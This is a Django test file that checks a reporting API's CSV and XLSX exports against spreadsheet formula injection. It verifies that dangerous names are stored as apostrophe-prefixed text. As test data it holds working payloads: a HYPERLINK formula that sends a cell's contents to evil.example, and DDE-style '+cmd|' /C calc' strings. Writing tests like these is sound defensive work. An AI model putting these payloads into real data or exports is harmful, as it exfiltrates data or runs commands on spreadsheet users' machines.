"""Formula injection in the exports (issue 28, item 4): a reference-data name that a spreadsheet would evaluate —
`=HYPERLINK(...)`, `+cmd`, `-2+3`, `@SUM(...)`, a leading tab or carriage return — reaches the CSV and the XLSX as
text (OWASP: a leading apostrophe), never as a formula; numbers stay numbers."""
import csv
import io

import pytest
from django.contrib.gis.geos import Point
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from agencies.models import Region, TimeZoneName
from incidents.models import IncidentCategory
from incidents.services import incident_create, incident_route
from reporting.rollup import rollup_refresh
from reporting.spreadsheet import neutralise
from tests import factories as f

pytestmark = pytest.mark.django_db

EVIL_CATEGORY = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
EVIL_AGENCY = "+cmd|' /C calc'!A0"
EVIL_DISTRICT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_CENTRE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def evil_report():
    centre = f.CommandCentreFactory()
    centre.name = EVIL_CENTRE
    centre.save(update_fields=["name"])
    Region.objects.create(code="62.71.01", level="district", name=EVIL_DISTRICT, parent=centre.regions.get(), timezone=TimeZoneName.WIB,
                          boundary=f.square(*f.PKY, half=0.05))
    category = IncidentCategory.objects.create(code="jahat", name_id=EVIL_CATEGORY, name_en="evil", default_priority=2,
                                               responsible_agency_types=["fire"])
    agency = f.AgencyFactory(command_centre=centre, type="fire", short_name=EVIL_AGENCY)
    ct = f.call_taker(centre, username="ct_evil")
    incident, _ = incident_create(actor=ct, category=category.code, location=Point(*f.PKY, srid=4326), caller_number="081234567890")
    incident_route(incident_id=incident.pk, actor=ct, agency_ids=[agency.pk])
    rollup_refresh()
    client = APIClient()
    client.force_authenticate(f.supervisor(centre, username="spv_evil"))
    today = timezone.localdate(timezone=__import__("zoneinfo").ZoneInfo(centre.timezone)).isoformat()
    return lambda fmt: client.get("/api/v1/reports/coordination/", {"from": today, "to": today, "format": fmt})


@pytest.mark.parametrize("text", [EVIL_CATEGORY, EVIL_AGENCY, EVIL_DISTRICT, EVIL_CENTRE, "\tx", "\r=1+1", "=1", "+1", "-1", "@A1"])
def test_every_formula_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [0, -1, 3.5, None, "Kebakaran", "0812****7890", "", "a=b", " =x"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def test_csv_names_are_text_not_formulas(evil_report):
    response = evil_report("csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL_CATEGORY in cells and "'" + EVIL_AGENCY in cells and "'" + EVIL_DISTRICT in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], [c for c in cells if c[:1] in "=+-@"]
    # the counts are still plain numbers
    by_key = {(r[0], r[3]): r[4] for r in rows[1:]}
    assert by_key[("Kejadian", "Total")] == "1"


def test_xlsx_names_are_text_cells_and_counts_numbers(evil_report):
    response = evil_report("xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas, texts, numbers = [], [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif cell.data_type == "s":
                    texts.append(cell.value)
                elif cell.data_type == "n" and cell.value is not None:
                    numbers.append(cell.value)
    assert formulas == []
    assert "'" + EVIL_CATEGORY in texts and "'" + EVIL_AGENCY in texts and "'" + EVIL_DISTRICT in texts
    assert any(EVIL_CENTRE in t for t in texts if t.startswith("'"))
    category_sheet = book["Kejadian per kategori"]
    [row] = [r for r in category_sheet.iter_rows(min_row=2) if r[0].value == "jahat"]
    assert row[1].data_type == "s" and row[2].data_type == "n" and row[2].value == 1
